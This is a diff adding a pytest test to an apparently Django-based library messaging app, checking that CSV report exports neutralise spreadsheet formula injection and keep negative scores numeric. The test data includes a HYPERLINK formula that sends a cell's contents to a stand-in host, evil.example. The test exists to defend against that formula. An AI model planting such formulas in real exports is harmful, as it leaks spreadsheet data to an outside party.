@@ -8,7 +8,7 @@ from html.parser import HTMLParser
 import pytest
 from django.core.management import call_command
 
-from patronflow.tracking.models import Event
+from patronflow.tracking.models import Event, Feedback
 from tests.factories import EnrolmentFactory, LoanFactory, MessageFactory
 
 
@@ -111,3 +111,25 @@ def test_html_report_is_one_file_that_fetches_nothing(network, tmp_path, capsys)
         page.split('<script id="chart-data" type="application/json">')[1].split("</script>")[0]
     )
     assert data["funnel"][0]["sent"] == 9
+
+
+def test_csv_cells_that_start_like_a_formula_are_text_and_negative_figures_stay_numbers(
+    library, capsys
+):
+    journey = library.journeys.get(key="dormant")
+    step = journey.current_version.steps.get(position=1)
+    step.name = '=HYPERLINK("https://evil.example/?"&A2,"Klik")'
+    step.save()
+    variant = step.variants.get(segment="")
+    for number in range(30):
+        enrolment = EnrolmentFactory(journey=journey)
+        message = MessageFactory(enrolment=enrolment, step=step, variant=variant)
+        vote = Feedback.Vote.UP if number < 10 else Feedback.Vote.DOWN
+        Feedback.objects.create(message=message, vote=vote)
+
+    output = report("--format", "csv", capsys=capsys)
+
+    assert ',"\'=HYPERLINK(""https://evil.example/?""&A2,""Klik"")",' in output
+    [row] = csv.DictReader(io.StringIO(output))
+    assert row["step_name"] == f"'{step.name}"
+    assert row["net_score"] == str(-1 / 3)  # a number a spreadsheet sums, not text
